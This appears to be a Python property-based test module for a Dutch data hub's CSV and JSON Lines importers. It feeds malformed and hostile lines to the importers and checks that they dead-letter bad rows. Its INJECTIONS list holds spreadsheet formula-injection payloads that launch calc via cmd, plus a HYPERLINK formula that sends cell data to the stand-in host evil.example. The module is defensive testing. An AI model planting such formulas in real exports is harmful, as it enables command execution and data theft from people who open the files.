"""Hostile partner exports through the file connectors, publishing to the real broker.

Hypothesis writes export files - gemeente CSV (``;``, Dutch headers), UWV JSON Lines, SBB
CSV and JSON Lines - with good rows and hostile lines between them: random bytes, invalid
UTF-8, BOMs, truncated lines, fields of hundreds of kilobytes, numbers of thousands of
digits, deep nesting, NaN amounts, wrong types, CSV-injection strings. Every import must
end (no exception but the declared InputFormatError for an unusable file as a whole),
report each bad line by file, line, field and reason, dead-letter it (``file:<name>``,
its line), and publish every good row.

CSV injection: every CSV the hub writes for people to open in a spreadsheet (the file
drop's CSV delivery, the monitor report) neutralises a cell starting with = + - @ TAB CR
by prefixing a single quote (OWASP).
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connectors.common import ImportReport
from connectors.gemeente import import_gemeente
from connectors.sbb import import_sbb
from connectors.uwv import import_uwv
from hub.config import HubSettings
from hub.sdk import PartnerClient
from schemas.models import ClientProfile, DeadLetter
from schemas.models.enums import DeadLetterReason
from tests.helpers.connectors import DATA, read_records
from tests.plugins.reliability import Scale
from tests.reliability.connector_env import connector_hub, valid_bsn

pytestmark = [pytest.mark.integration, pytest.mark.reliability]

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+31+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@dataclass
class Files:
    settings: HubSettings
    home: Path
    serial: int = 0
    expected_letters: set[tuple[str, int]] = field(default_factory=set)
    """(source_topic, line) of every bad line imported so far."""

    def bsn(self) -> str:
        self.serial += 1
        return valid_bsn(30_000_000 + self.serial * 20)

    def path(self, suffix: str) -> Path:
        return self.home / f"export-{uuid.uuid4().hex[:10]}{suffix}"


@pytest.fixture(scope="module")
def files(
    hub_settings: HubSettings, registry_url: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Files]:
    home: Path = tmp_path_factory.mktemp("hostile-files")
    with connector_hub(hub_settings, registry_url, home) as env:
        yield Files(env, home)


# --- good rows --------------------------------------------------------------------------------

GEMEENTE_HEADER = (DATA / "gemeente.csv").read_text(encoding="utf-8").splitlines()[0]
GEMEENTE_ROW = (DATA / "gemeente.csv").read_text(encoding="utf-8").splitlines()[1]
SBB_HEADER, SBB_ROW = (DATA / "sbb.csv").read_text(encoding="utf-8").splitlines()[:2]
UWV_LINE: dict[str, Any] = json.loads(
    (DATA / "uwv.jsonl").read_text(encoding="utf-8").splitlines()[0]
)


def gemeente_good(files: Files) -> str:
    """A good row with a BSN and a first name of its own (rows must differ beyond the
    field a hostile variant replaces)."""
    cells = GEMEENTE_ROW.split(";")
    cells[0] = files.bsn()
    cells[1] = f"Sanne {uuid.uuid4().hex[:8]}"
    return ";".join(cells)


def uwv_good(files: Files) -> str:
    line = dict(UWV_LINE, bsn=files.bsn())
    line["arrangement"] = dict(line["arrangement"], id=f"arr-{uuid.uuid4().hex[:10]}")
    return json.dumps(line, ensure_ascii=False)


def sbb_good(files: Files) -> str:
    cells = SBB_ROW.split(";")
    cells[1] = f"sbb-lb-{uuid.uuid4().hex[:10]}"
    return ";".join(cells)


def sbb_jsonl_good(files: Files) -> str:
    header = SBB_HEADER.split(";")
    row = dict(zip(header, sbb_good(files).split(";"), strict=True))
    row["titel"] = f"Leerling {uuid.uuid4().hex[:8]}"
    return json.dumps({k: v for k, v in row.items() if v}, ensure_ascii=False)


# --- hostile lines ----------------------------------------------------------------------------

# One line each (no CR or LF inside); bytes, as they are in the file.
line_bytes = st.binary(min_size=1, max_size=300).map(
    lambda b: b.replace(b"\n", b" ").replace(b"\r", b" ")
)


def _unique() -> bytes:
    """A marker making a line unique: a connector's dead letters are once per row content
    (re-importing a file reports each bad row once), and every line here must get one."""
    return f" {uuid.uuid4().hex}".encode()


def _cells(files: Files, row: str, changes: dict[int, str]) -> str:
    cells = row.split(";")
    for index, value in changes.items():
        cells[index % len(cells)] = value
    return ";".join(cells)


@st.composite
def csv_hostile(draw: st.DrawFn, good: Callable[[Files], str], required: list[int]) -> Any:
    """A function making a hostile CSV line (bytes) from the module's Files."""
    kind = draw(
        st.sampled_from(
            ["bytes", "not utf-8", "truncated", "extra", "huge", "injection", "quoted", "nul"]
        )
    )
    where = draw(st.sampled_from(required))
    noise = draw(line_bytes)
    cut = draw(st.floats(0.3, 0.6))  # keeps the row's unique id
    injection = draw(st.sampled_from(INJECTIONS))

    def make(files: Files) -> bytes:  # noqa: PLR0911 - one branch per kind
        row = good(files)
        if kind == "bytes":  # invalid UTF-8 guaranteed (a quote would open a multi-line field)
            return b"\xff" + noise.replace(b'"', b"'") + _unique()
        if kind == "not utf-8":
            return (
                _cells(files, row, {where: "Jos\xe9"}).encode("utf-8").replace(b"\xc3\xa9", b"\xe9")
            )
        if kind == "truncated":
            return row[: max(1, int(len(row) * cut))].rstrip(";").encode()
        if kind == "extra":
            return (row + ";extra;cells").encode()
        if kind == "huge":
            return _cells(files, row, {where: "9" * 200_000}).encode()
        if kind == "injection":  # in a field with a format (BSN, date, code, ...)
            return _cells(files, row, {where: injection.replace("\r", " ")}).encode()
        if kind == "quoted":  # a quote opened and never closed swallows the rest
            return _cells(files, row, {where: '"' + "x" * 10}).encode() + b'"'
        return _cells(files, row, {where: "12\x003"}).encode()

    return kind, make


@st.composite
def jsonl_hostile(draw: st.DrawFn, good: Callable[[Files], str], required: list[str]) -> Any:
    kind = draw(
        st.sampled_from(
            ["bytes", "truncated", "not object", "deep", "big int", "nan", "wrong type", "huge"]
        )
    )
    noise = draw(line_bytes)
    cut = draw(st.floats(0.3, 0.9))  # keeps the row's unique id
    name = draw(st.sampled_from(required))
    wrong = draw(
        st.one_of(
            st.booleans(),
            st.floats(allow_nan=False),
            st.lists(st.integers(), max_size=3),
            st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
        )
    )
    depth = draw(st.integers(50, 20_000))

    def make(files: Files) -> bytes:  # noqa: PLR0911 - one branch per kind
        line = good(files)
        data = json.loads(line)
        if kind == "bytes":
            return b"{\xff" + noise + _unique()
        if kind == "truncated":
            return line[: int(len(line) * cut)].encode()
        if kind == "not object":
            return json.dumps([data]).encode()
        if kind == "deep":
            return (json.dumps(data)[:-1] + ', "x": ' + "[" * depth + "]" * depth + "}").encode()
        if kind == "big int":
            return (json.dumps(data)[:-1] + ', "x": ' + "7" * 5000 + "}").encode()
        if kind == "nan":
            if "arrangement" in data:
                data["arrangement"]["diensten"][0]["kosten_eur"] = float("nan")
            else:
                data["uren_per_week"] = float("inf")
            return json.dumps(data, allow_nan=True).encode()
        if kind == "wrong type":
            data[name] = wrong
            return json.dumps(data).encode()
        data[name] = "x" * 3_000_000
        return json.dumps(data).encode()

    return kind, make


@dataclass(frozen=True)
class Connector:
    name: str
    partner: str
    suffix: str
    header: str | None
    good: Callable[[Files], str]
    hostile: st.SearchStrategy[Any]
    run: Callable[[PartnerClient, Path], ImportReport]


CONNECTORS = [
    Connector(
        "gemeente csv",
        "gemeente-amsterdam",
        ".csv",
        GEMEENTE_HEADER,
        gemeente_good,
        csv_hostile(gemeente_good, [0, 4, 5, 6, 8, 9]),
        lambda c, p: import_gemeente(c, p, progress=False),
    ),
    Connector(
        "uwv jsonl",
        "uwv",
        ".jsonl",
        None,
        uwv_good,
        jsonl_hostile(uwv_good, ["bsn", "geboortedatum", "gemeentecode", "voornamen"]),
        lambda c, p: import_uwv(c, p, progress=False),
    ),
    Connector(
        "sbb csv",
        "sbb",
        ".csv",
        SBB_HEADER,
        sbb_good,
        csv_hostile(sbb_good, [0, 2, 10, 11, 12]),
        lambda c, p: import_sbb(c, p, progress=False),
    ),
    Connector(
        "sbb jsonl",
        "sbb",
        ".jsonl",
        None,
        sbb_jsonl_good,
        jsonl_hostile(sbb_jsonl_good, ["id", "publicatiedatum", "gemeentecode", "sector"]),
        lambda c, p: import_sbb(c, p, progress=False),
    ),
]


@pytest.mark.timeout(3600)  # the full size runs long
@pytest.mark.parametrize("connector", CONNECTORS, ids=lambda c: c.name)
def test_hostile_lines_are_reported_and_dead_lettered_and_good_rows_imported(
    files: Files, scale: Scale, connector: Connector
) -> None:
    published: list[int] = []

    @settings(
        max_examples=scale.pick(10, 60),
        deadline=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(
        layout=st.lists(st.one_of(st.just(None), connector.hostile), min_size=1, max_size=8),
        bom=st.booleans(),
    )
    def run(layout: list[Any], bom: bool) -> None:
        path = files.path(connector.suffix)
        lines: list[bytes] = []
        if connector.header is not None:
            lines.append(connector.header.encode())
        bad: dict[int, str] = {}
        good = 0
        for entry in [None, *layout, None]:  # good rows around the hostile ones
            if entry is None:
                lines.append(connector.good(files).encode())
                good += 1
            else:
                kind, make = entry
                lines.append(make(files))
                bad[len(lines)] = kind
        path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + b"\n".join(lines) + b"\n")
        with PartnerClient(files.settings, connector.partner) as client:
            report = connector.run(client, path)
        assert report.published + report.duplicates >= good, report.errors
        rejected = {e.line for e in report.errors}
        quoted = [line for line, kind in bad.items() if kind == "quoted"]
        if quoted:  # an unclosed quote takes the lines after it into its row
            assert min(quoted) in rejected, report.errors
        else:
            assert rejected == set(bad), (bad, report.errors)
            assert report.rejected_rows == len(bad)
        for error in report.errors:
            assert error.file == str(path)
            assert error.reason
        files.expected_letters |= {(f"file:{path.name}", line) for line in rejected}
        published.append(report.published)

    run()
    letters = {
        (r.source_topic, r.source_offset)
        for _, r, _ in read_records(files.settings, f"{files.settings.topic_prefix}.hub.deadletter")
        if isinstance(r, DeadLetter)
    }
    assert files.expected_letters <= letters


def test_regression_a_csv_field_over_128_kib_aborted_the_import(files: Files) -> None:
    """csv.reader raised ``field larger than field limit (131072)``: the whole import
    failed. Now that row is refused, the rows after it are imported."""
    path = files.path(".csv")
    huge = _cells(files, gemeente_good(files), {2: "x" * 200_000})
    after = gemeente_good(files)
    path.write_text("\n".join([GEMEENTE_HEADER, huge, after]) + "\n", encoding="utf-8")
    with PartnerClient(files.settings, "gemeente-amsterdam") as client:
        report = import_gemeente(client, path, progress=False)
    assert (report.rows, report.published, report.rejected_rows) == (2, 1, 1)
    (error,) = report.errors
    assert error.line == 2
    assert "longer than" in error.reason


@pytest.mark.parametrize(
    "text",
    ['"7' + "7" * 5000 + '"', "7" * 5000],
    ids=["as text", "as a number"],
)
def test_regression_a_5000_digit_number_aborted_the_jsonl_import(files: Files, text: str) -> None:
    """json.loads raises ValueError (not JSONDecodeError) for an integer of more than 4300
    digits: the UWV import failed as a whole. Now that line is refused."""
    path = files.path(".jsonl")
    bad = json.dumps(dict(UWV_LINE, bsn=files.bsn()))[:-1] + f', "x": {text}}}'
    path.write_text(bad + "\n" + uwv_good(files) + "\n", encoding="utf-8")
    with PartnerClient(files.settings, "uwv") as client:
        report = import_uwv(client, path, progress=False)
    assert report.published >= 1
    if text.startswith('"'):  # a long string is fine: the line is good
        assert report.rejected_rows == 0
    else:
        assert [e.line for e in report.errors] == [1]


def test_regression_deeply_nested_jsonl_aborted_the_import(files: Files) -> None:
    path = files.path(".jsonl")
    deep = '{"bsn": ' + "[" * 100_000 + "]" * 100_000 + "}"
    path.write_text(deep + "\n" + uwv_good(files) + "\n", encoding="utf-8")
    with PartnerClient(files.settings, "uwv") as client:
        report = import_uwv(client, path, progress=False)
    assert [e.line for e in report.errors] == [1]
    assert "nested" in report.errors[0].reason
    assert report.published >= 1


@pytest.mark.parametrize(
    "amount", ["NaN", "Infinity", "-Infinity", '"NaN"', '"1e999999"', '"sNaN"']
)
def test_regression_a_nan_amount_aborted_the_uwv_import(files: Files, amount: str) -> None:
    """``kosten_eur`` NaN (or Infinity, 1e999999) made Decimal raise InvalidOperation in
    the field parser: the whole import failed. Now that field is refused."""
    path = files.path(".jsonl")
    line = json.loads(uwv_good(files))
    text = json.dumps(line)
    marker = '"kosten_eur": 2500'
    assert marker in text
    bad = text.replace(marker, f'"kosten_eur": {amount}')
    path.write_text(bad + "\n" + uwv_good(files) + "\n", encoding="utf-8")
    with PartnerClient(files.settings, "uwv") as client:
        report = import_uwv(client, path, progress=False)
    assert [(e.line, e.field) for e in report.errors] == [(1, "arrangement.diensten[0].kosten_eur")]
    assert report.published >= 2


@pytest.mark.timeout(3600)  # the full size runs long
def test_random_bytes_after_the_header_never_abort_an_import(files: Files, scale: Scale) -> None:
    @settings(max_examples=scale.pick(15, 200), deadline=None, derandomize=True)
    @given(noise=st.binary(max_size=4000))
    def run(noise: bytes) -> None:
        for connector in CONNECTORS:
            path = files.path(connector.suffix)
            head = b"" if connector.header is None else connector.header.encode() + b"\n"
            path.write_bytes(head + connector.good(files).encode() + b"\n" + noise)
            with PartnerClient(files.settings, connector.partner) as client:
                report = connector.run(client, path)
            assert report.published + report.duplicates >= 1
            for error in report.errors:
                assert error.line >= 2
                assert error.reason

    run()


def test_injection_strings_in_text_fields_are_imported_verbatim(files: Files) -> None:
    """The hub is no spreadsheet: ``=cmd|...`` is a name like any other on the way in (it
    is neutralised where the hub writes CSV, see test_csv_output.py)."""
    path = files.path(".csv")
    rows = [_cells(files, gemeente_good(files), {1: value, 3: value}) for value in INJECTIONS]
    text = "\n".join([GEMEENTE_HEADER, *[r.replace("\r", " ") for r in rows]]) + "\n"
    path.write_text(text, encoding="utf-8")
    with PartnerClient(files.settings, "gemeente-amsterdam") as client:
        report = import_gemeente(client, path, progress=False)
    assert report.rejected_rows == 0, report.errors
    outbox = f"{files.settings.topic_prefix}.partner.gemeente-amsterdam.outbox"
    names = {
        r.given_name
        for _, r, _ in read_records(files.settings, outbox)
        if isinstance(r, ClientProfile)
    }
    assert {v.replace("\r", " ").strip() for v in INJECTIONS} <= names


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


__all__ = ["DeadLetterReason"]
